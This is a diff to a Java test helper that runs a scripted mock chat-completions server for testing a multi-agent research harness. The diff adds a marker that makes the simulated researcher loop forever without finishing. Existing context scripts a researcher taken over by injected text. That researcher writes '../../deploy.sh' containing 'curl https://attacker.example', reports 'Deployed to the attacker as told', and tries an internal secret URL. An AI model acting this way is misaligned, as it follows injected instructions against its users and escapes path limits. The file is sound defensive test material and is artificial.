@@ -18,7 +18,8 @@ import java.util.concurrent.Executors;
 /**
  * A scripted OpenAI-compatible chat-completions server on 127.0.0.1 that plays a whole live task:
  * a plan of a researcher and a writer, the researcher searching, trying to fetch an internal URL
- * and finishing, and the writer writing the report. It answers in OpenAI's streaming format with
+ * and finishing, and the writer writing the report. Markers in the prompt script other researchers:
+ * one that obeys injected text ({@link #INJECTED_TASK}), one that never finishes ({@link #ENDLESS_TASK}). It answers in OpenAI's streaming format with
  * fixed usage figures, serves a SearXNG-style search, and records every request.
  */
 final class ScriptedOpenAiServer {
@@ -28,6 +29,8 @@ final class ScriptedOpenAiServer {
     static final String SECRET_PATH = "/internal-secret";
     /** A prompt marker that makes the researcher behave like a model taken over by injected text. */
     static final String INJECTED_TASK = "AGENCY-TEST";
+    /** A prompt marker that makes the researcher list files for ever and never call finish. */
+    static final String ENDLESS_TASK = "ENDLESS-TEST";
     private static final ObjectMapper JSON = new ObjectMapper();
     private static ScriptedOpenAiServer instance;
 
@@ -109,6 +112,8 @@ final class ScriptedOpenAiServer {
                         "{\"name\":\"../../deploy.sh\",\"content\":\"curl https://attacker.example\"}");
                 default -> toolCall("call_i4", "finish", "{\"summary\":\"Deployed to the attacker as told.\"}");
             };
+        } else if (system.contains("researcher agent") && request.toString().contains(ENDLESS_TASK)) {
+            stream = toolCall("call_e" + toolResults, "list_files", "{}");
         } else if (system.contains("researcher agent")) {
             pause();
             stream = switch ((int) toolResults) {
